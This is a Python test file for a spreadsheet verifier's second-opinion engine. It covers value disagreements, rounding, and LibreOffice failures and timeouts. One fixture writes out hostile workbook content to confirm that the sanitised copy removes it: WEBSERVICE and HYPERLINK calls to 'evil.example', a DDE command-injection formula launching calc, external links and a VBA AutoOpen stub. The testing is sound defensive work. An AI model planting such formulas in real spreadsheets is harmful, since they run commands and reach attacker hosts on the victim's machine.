"""A second opinion: what another engine gets to see, and where it is said to disagree; no other engine is needed."""

import os
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from html import escape
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
import xlsxwriter

from sheetgen import generate
from tests.verifier.book import Book, read_book
from tests.verifier.book import Cell as Content
from tests.verifier.conftest import Books
from tests.verifier.hostile import formula_cell, parts_of, write_package
from tests.verifier.networks import template
from verifier import Engine, Kind, Status, WorkbookResult, json_report, text_report, verify
from verifier.computing.recompute import Cell, Formulas, recompute
from verifier.engines import NAMES, EngineError, calculator, libreoffice
from verifier.engines.libreoffice import LibreOffice
from verifier.engines.plain_book import PlainBook, plain_book, write_copy
from verifier.reading import functions
from verifier.reading.later_functions import PREFIXED, in_file
from verifier.reading.workbook import read_workbook
from verifier.values import ExcelError, Value


@dataclass(frozen=True)
class Told:
    """An engine that computes nothing and gives values that it was told."""

    values: Mapping[Cell, Value]
    name: str = "Oracle of Delphi"

    def calculate(self, book: PlainBook) -> Mapping[Cell, Value]:
        return {cell: self.values[cell] for cell in book.formulas if cell in self.values}


class Broken:
    """An engine that fails."""

    name = "Broken"

    def calculate(self, book: PlainBook) -> Mapping[Cell, Value]:
        raise EngineError(f"Broken does not like {len(book.formulas)} formulas")


def values_of(book: Book) -> dict[Cell, Value]:
    """The values of all cells, as the file has them."""
    numbers = {sheet: number for number, sheet in enumerate(book.sheet_parts)}
    found = {}
    for (sheet, address), cell in book.cells.items():
        column, row = openpyxl.utils.cell.coordinate_from_string(address)
        found[numbers[sheet], row, openpyxl.utils.column_index_from_string(column)] = cell.value
    return found


def changed_at(book: Book, sheet: str, address: str, factor: float) -> Book:
    """The workbook as it is calculated by who gets another value in one cell."""
    value = book.cells[sheet, address].value
    assert isinstance(value, float)
    return book.changed({(sheet, address): Content(value=value * factor)}).recalculated()


def rounded(values: Mapping[Cell, Value]) -> dict[Cell, Value]:
    """The values with fifteen digits."""
    return {cell: float(f"{value:.15g}") if isinstance(value, float) else value for cell, value in values.items()}


def asked(book: Book, engine: Engine, folder: Path, values: Mapping[Cell, Value]) -> WorkbookResult:
    return verify(book.write(folder / "book.xlsx"), engine, second_opinion=Told(values))


def test_one_who_agrees_changes_nothing(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """An engine with the same values leaves the verdict as it is, and the result says that it was asked."""
    result = asked(generated("mazur"), engine, tmp_path, values_of(generated("mazur")))
    assert (result.status, result.faults) == (Status.RIGHT, ())
    assert result.opinion is not None
    assert (result.opinion.engine, result.opinion.differing) == ("Oracle of Delphi", 0)
    assert result.opinion.formulas == sum(table.formulas for table in result.tables) + result.other_formulas
    assert "Oracle of Delphi also computed it, and agrees" in text_report([result])


def test_without_another_engine_nobody_is_asked(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """A result has no second opinion where none was asked for."""
    assert verify(generated("mazur").write(tmp_path / "book.xlsx"), engine).opinion is None


def test_first_cell_of_a_chain_is_named_with_both_values(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """One who gets another weight, and all that follows from it, disagrees on that cell; the verdict is open."""
    book = generated("backprop")
    theirs = values_of(changed_at(book, "eta 0.5", "E36", 1.001))
    own = values_of(book)
    assert sum(theirs[cell] != own[cell] for cell in own) > 50
    result = asked(book, engine, tmp_path, theirs)
    (fault,) = result.faults
    assert (fault.kind, fault.sheet, fault.cells, fault.count) == (Kind.DISAGREEMENT, "eta 0.5", "E36", 1)
    assert fault.formula == "=E35-$G$31*X35"
    assert repr(book.cells["eta 0.5", "E36"].value) in fault.message
    assert f"Oracle of Delphi computes {book.cells['eta 0.5', 'E36'].value * 1.001!r}" in fault.message
    assert result.status is Status.UNCHECKED
    text = text_report([result])
    assert fault.message.split(", ")[1] in " ".join(text.split())
    assert "no fault found, but engines disagree on 1 formula" in text
    assert '"differing": 1' in json_report([result])


def test_one_other_value_is_found_whatever_follows(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """One other value is found even where nothing follows from it: the cells that read it are as they should be."""
    book = generated("backprop")
    sheet = list(book.sheet_parts).index("eta 0.5")
    theirs = rounded(values_of(book)) | {(sheet, 36, 5): 0.1}
    assert [(fault.kind, fault.cells) for fault in asked(book, engine, tmp_path, theirs).faults] == [
        (Kind.DISAGREEMENT, "E36")
    ]


def test_cells_of_a_column_are_one_finding(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """Who gets other values all down a column disagrees once, with the number of cells."""
    book = generated("backprop")
    rows = range(33, 40)
    theirs = values_of(book)
    sheet = list(book.sheet_parts).index("eta 0.5")
    for row in rows:
        theirs[sheet, row, 10] = -1.0
    (fault,) = asked(book, engine, tmp_path, theirs).faults
    assert (fault.cells, fault.count) == ("J33:J39", len(rows))


@pytest.mark.parametrize(
    ("value", "shown"),
    [(ExcelError("#NUM!"), "#NUM!"), ("ten", '"ten"'), (None, "nothing"), (True, "TRUE")],
    ids=["error", "text", "empty", "boolean"],
)
def test_values_of_every_kind_are_told_apart(
    value: Value, shown: str, generated: Books, engine: Engine, tmp_path: Path
) -> None:
    """An error, a text, nothing, or TRUE in the place of a number is a disagreement."""
    book = generated("backprop")
    sheet = list(book.sheet_parts).index("eta 0.5")
    (fault,) = asked(book, engine, tmp_path, {**values_of(book), (sheet, 34, 8): value}).faults
    assert (fault.cells, fault.message.rpartition("computes ")[2]) == ("H34", shown)


def test_function_that_the_other_does_not_know_is_said(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """`#NAME?` from the other engine alone is explained."""
    book = generated("backprop")
    sheet = list(book.sheet_parts).index("eta 0.5")
    (fault,) = asked(book, engine, tmp_path, {**values_of(book), (sheet, 34, 8): ExcelError("#NAME?")}).faults
    assert fault.message.endswith("computes #NAME?; it does not know a function in it")


def test_rounding_is_no_disagreement(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """Values with fifteen digits, as LibreOffice saves them, are the same values."""
    book = generated("deep")
    theirs = rounded(values_of(book))
    assert theirs != values_of(book)
    assert asked(book, engine, tmp_path, theirs).status is Status.RIGHT


def test_rounding_that_grows_is_no_disagreement(engine: Engine, tmp_path: Path) -> None:
    """A training that is not stable makes much of a rounding in its first update; nobody is wrong there."""
    generate(template("three hidden tanh", iterations=60, rates=(9.0,)), tmp_path / "unstable.xlsx")
    book = read_book((tmp_path / "unstable.xlsx").read_bytes())
    own, theirs = values_of(book), values_of(changed_at(book, "eta 9.0", "E36", 1 + 1e-12))
    grown = [abs(v / own[cell] - 1) for cell, v in theirs.items() if isinstance(v, float) and own[cell]]
    assert max(grown) > 1e-7
    assert asked(book, engine, tmp_path, theirs).status is Status.RIGHT


def test_one_for_true_and_nothing_for_an_empty_text_is_no_disagreement(engine: Engine, tmp_path: Path) -> None:
    """What only the kinds of values of an engine make different is the same: 1 and TRUE, nothing and an empty text."""
    book = openpyxl.Workbook()
    book.active["A1"], book.active["A2"], book.active["A3"] = "=2>1", "=2<1", '=IF(A1,"",1)'
    book.save(tmp_path / "book.xlsx")
    told = Told({(0, 1, 1): 1.0, (0, 2, 1): 0.0})
    assert verify(tmp_path / "book.xlsx", engine, second_opinion=told).faults == ()


def test_engine_that_fails_leaves_the_verdict_open(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """Without the opinion that was asked for, a right workbook is not said to be right; a reason is given."""
    result = verify(generated("mazur").write(tmp_path / "book.xlsx"), engine, second_opinion=Broken())
    assert (result.status, result.faults) == (Status.UNCHECKED, ())
    assert "no second opinion: Broken does not like" in text_report([result])


# --- what another engine gets to see ---

EVIL = "evil.example"
HOSTILE = (
    formula_cell("A1", f'WEBSERVICE("http://{EVIL}/")', "1"),
    formula_cell("A2", "[1]Other!A1", "2"),
    formula_cell("A3", "cmd|'/C calc'!A0", "3"),
    formula_cell("A4", f'HYPERLINK("http://{EVIL}/","x")', "4"),
    formula_cell("A5", f'IF(1,1,_xlfn.WEBSERVICE("http://{EVIL}/"))', "5"),
    formula_cell("A6", "Outside+1", "6"),
    f'<c r="A7" t="e"><v>WEBSERVICE("http://{EVIL}/")</v></c>',
    '<c r="A8" t="inlineStr"><is><t>=1+1</t></is></c>',
    f'<c r="A9" t="e"><f>{escape("A1*2")}</f><v>#REF!</v></c>',
    formula_cell("A10", "SUM(A1:A5)", "0"),
)


def copied(path: Path, folder: Path) -> Path:
    """The copy of a workbook that another engine opens."""
    formulas = Formulas(read_workbook(path), Engine())
    failed = formulas.unsupported | recompute(formulas, iter(formulas), formulas.constants())
    write_copy(plain_book(formulas, failed), folder / "copy.xlsx")
    return folder / "copy.xlsx"


def written(cell: openpyxl.cell.Cell) -> str:
    """The formula in a cell, of an array or not."""
    return str(getattr(cell.value, "text", cell.value))


@pytest.fixture
def hostile_copy(tmp_path: Path) -> Path:
    """The copy of a workbook that tries everything to reach outside."""
    parts = parts_of("".join(HOSTILE), f"<definedName name='Outside'>'file://{EVIL}/[b.xlsx]S'!$A$1</definedName>")
    more = [
        ("xl/vbaProject.bin", b"Sub AutoOpen"),
        ("xl/externalLinks/externalLink1.xml", f"<externalLink>http://{EVIL}/</externalLink>"),
        ("xl/connections.xml", f"<connections>{EVIL}</connections>"),
    ]
    return copied(write_package(tmp_path / "hostile.xlsm", parts, more), tmp_path)


def test_nothing_that_reaches_outside_is_passed_on(hostile_copy: Path) -> None:
    """No macro, link, address or function of a hostile workbook is in any part of the copy."""
    with ZipFile(hostile_copy) as package:
        assert not [n for n in package.namelist() if "vba" in n or "external" in n or "connection" in n]
        everything = b"\n".join(package.read(name) for name in package.namelist())
    for word in (EVIL, "WEBSERVICE", "HYPERLINK", "cmd|", "/C calc", "Outside", "[1]", "definedName", "AutoOpen"):
        assert word.encode() not in everything


def test_copy_has_cached_values_for_what_is_not_passed_on(hostile_copy: Path) -> None:
    """What the verifier does not compute is its value in the copy; a text stays a text, an odd error an error."""
    cells = openpyxl.load_workbook(hostile_copy)["Sheet1"]
    assert [cells[f"A{row}"].value for row in range(1, 7)] == [1, 2, 3, 4, 5, 6]
    assert cells["A7"].value == "=#VALUE!"
    assert (cells["A8"].value, cells["A8"].data_type) == ("=1+1", "s")
    assert (cells["A9"].value, written(cells["A10"])) == ("=A1*2", "=SUM(A1:A5)")


def test_copy_has_names_of_its_own(tmp_path: Path) -> None:
    """Sheets are renamed in the copy, also in formulas; names of cells are resolved."""
    book = openpyxl.Workbook()
    book.active.title = "O'Neil, =1"
    other = book.create_sheet("S 2")
    other["B2"], book.active["A1"] = 3, "='S 2'!B2*Rate"
    other["B3"] = "=SUM('O''Neil, =1'!A1:A3)"
    book.defined_names["Rate"] = openpyxl.workbook.defined_name.DefinedName("Rate", attr_text="'S 2'!$B$2")
    book.save(tmp_path / "book.xlsx")
    copy = openpyxl.load_workbook(copied(tmp_path / "book.xlsx", tmp_path))
    assert copy.sheetnames == ["Sheet1", "Sheet2"]
    assert copy["Sheet1"]["A1"].value == "=Sheet2!B2*Sheet2!$B$2"
    assert written(copy["Sheet2"]["B3"]) == "=SUM(Sheet1!A1:A3)"


def test_values_of_every_kind_are_copied(tmp_path: Path) -> None:
    """Numbers to the last bit but one, booleans, errors and texts come through the copy."""
    values: dict[Cell, float | bool | str] = {
        (0, 1, 1): 0.1 + 0.2,
        (0, 1, 2): True,
        (0, 2, 1): "∂E_t/∂w1 <&>",
        (0, 3, 1): ExcelError("#N/A"),
        (1, 9, 9): 1e300,
    }
    write_copy(PlainBook(2, values, {(0, 4, 1): "=A1"}), tmp_path / "copy.xlsx")
    sheets = read_workbook(tmp_path / "copy.xlsx").sheets
    read = {(number, *place): value for number, sheet in enumerate(sheets) for place, value in sheet.values.items()}
    assert {cell: read[cell] for cell in values} == {
        cell: pytest.approx(value, rel=1e-15) if type(value) is float else value for cell, value in values.items()
    }


def test_later_functions_have_their_prefix_and_texts_do_not(tmp_path: Path) -> None:
    """Formulas are written as XlsxWriter would write them, which knows the later functions; texts stay as they are."""
    assert in_file('=IFNA(XLOOKUP(A1,B:B,C:C),"XOR(1)")&SUM(1)') == (
        '=_xlfn.IFNA(_xlfn.XLOOKUP(A1,B:B,C:C),"XOR(1)")&SUM(1)'
    )
    every = functions._BOUNDED
    assert every >= PREFIXED
    with xlsxwriter.Workbook(tmp_path / "book.xlsx", {"use_future_functions": True}) as book:
        sheet = book.add_worksheet()
        for row, name in enumerate(sorted(every)):
            sheet.write_formula(row, 0, f"={name}(B1)")
    (cells,) = openpyxl.load_workbook(tmp_path / "book.xlsx").active.iter_cols()
    assert {in_file(f"={name}(B1)") for name in every} == {written(cell) for cell in cells}


# --- engines that are not there, or do not end ---


def test_missing_engine_says_what_to_install(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """An engine that is not installed is an error that says how to install it; `formulas` needs nothing."""
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.delenv("PROGRAMFILES", raising=False)
    monkeypatch.delenv("PROGRAMFILES(X86)", raising=False)
    monkeypatch.setattr(libreoffice, "_MACOS", tmp_path / "soffice")
    monkeypatch.setitem(sys.modules, "formualizer", None)
    with pytest.raises(EngineError, match=r"apt install libreoffice-calc.*brew install.*winget install"):
        calculator("libreoffice")
    with pytest.raises(EngineError, match=r"pip install '\.\[formualizer\]'"):
        calculator("formualizer")
    assert calculator("formulas") is None


def test_unknown_engine_is_refused() -> None:
    """A name that is not one of the engines' is an error that lists them."""
    with pytest.raises(ValueError, match=f"'excel' is not one of the engines {', '.join(NAMES)}"):
        calculator("excel")


@pytest.fixture
def small() -> PlainBook:
    """A workbook of one formula."""
    return PlainBook(1, {(0, 1, 1): 2.0}, {(0, 2, 1): "=A1*2"})


def program(folder: Path, script: str) -> Path:
    """A program in the place of LibreOffice's."""
    path = folder / "soffice"
    path.write_text(f"#!/bin/sh\n{script}\n", encoding="utf-8")
    path.chmod(0o755)
    return path


posix = pytest.mark.skipif(os.name != "posix", reason="the programs of these tests are shell scripts")


@posix
def test_program_that_hangs_is_ended_with_all_that_it_started(small: PlainBook, tmp_path: Path) -> None:
    """When the time is up nothing is left running, not what the program itself has started, and no file is left."""
    hanging = program(tmp_path, f"sleep 60 &\necho $! > {tmp_path}/child\npwd > {tmp_path}/folder\nwait")
    with pytest.raises(EngineError, match=r"LibreOffice took more than 0.5 seconds and was ended"):
        LibreOffice(hanging, seconds=0.5).calculate(small)
    child = int((tmp_path / "child").read_text())
    state = Path(f"/proc/{child}/stat")
    assert not state.exists() or state.read_text().split()[2] == "Z"
    assert not Path((tmp_path / "folder").read_text().strip()).exists()


@posix
@pytest.mark.parametrize(
    ("script", "message"),
    [
        ("echo no display; exit 3", "LibreOffice failed with exit status 3; it said: 'no display'"),
        ("echo source file could not be loaded", "LibreOffice did not calculate it .*could not be loaded"),
        ("mkdir saved; echo x > saved/copy.xlsx", "LibreOffice did not calculate it .not a workbook"),
    ],
    ids=["fails", "saves nothing", "saves rubbish"],
)
def test_program_that_fails_is_an_error(script: str, message: str, small: PlainBook, tmp_path: Path) -> None:
    """A program that fails, or saves nothing that can be read, is one line with what it said."""
    with pytest.raises(EngineError, match=message):
        LibreOffice(program(tmp_path, script)).calculate(small)


def test_program_that_cannot_be_started_is_an_error(small: PlainBook, tmp_path: Path) -> None:
    """A program that is not there when it is needed is one line."""
    with pytest.raises(EngineError, match="LibreOffice could not be started: No such file"):
        LibreOffice(tmp_path / "gone").calculate(small)


@posix
def test_profile_runs_no_macro_and_follows_no_link(small: PlainBook, tmp_path: Path) -> None:
    """The program starts with a profile of its own: macros off, links never updated, formulas always recalculated."""
    copying = program(tmp_path, f"cat profile/user/registrymodifications.xcu > {tmp_path}/settings; exit 1")
    with pytest.raises(EngineError):
        LibreOffice(copying).calculate(small)
    settings = (tmp_path / "settings").read_text()
    for name, value in (("DisableMacrosExecution", "true"), ("MacroSecurityLevel", "3"), ("OOXMLRecalcMode", "0")):
        assert f'oor:name="{name}" oor:op="fuse"><value>{value}</value>' in settings
    assert 'Calc/Content/Update"><prop oor:name="Link" oor:op="fuse"><value>1</value>' in settings


def test_missing_answers_are_disagreements(generated: Books, engine: Engine, tmp_path: Path) -> None:
    """An engine that says nothing of a workbook does not pass for one that agrees."""
    result = asked(generated("single"), engine, tmp_path, {})
    assert result.opinion is not None
    assert result.opinion.differing == result.opinion.formulas > 0
